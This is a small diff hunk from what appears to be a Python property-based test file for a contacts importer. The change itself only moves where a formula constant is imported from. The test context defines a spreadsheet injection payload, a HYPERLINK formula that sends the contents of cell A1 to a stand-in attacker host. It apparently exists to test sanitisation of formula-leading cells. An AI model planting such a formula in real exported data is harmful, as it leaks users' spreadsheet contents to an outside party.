@@ -14,8 +14,8 @@ from hypothesis import strategies as st
 
 from contacts.importing.error_file import safe_cell
 from contacts.importing.row import Options, content
-from contacts.importing.tabular import FORMULA
 from contacts.models import Contact
+from contacts.values.formulas import FORMULA
 
 LINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 CELLS = st.text(st.sampled_from([*"'=+-@\t\r\n ,;\"x5\u00a0", "\uff1d", "\uff0d"]), max_size=8)
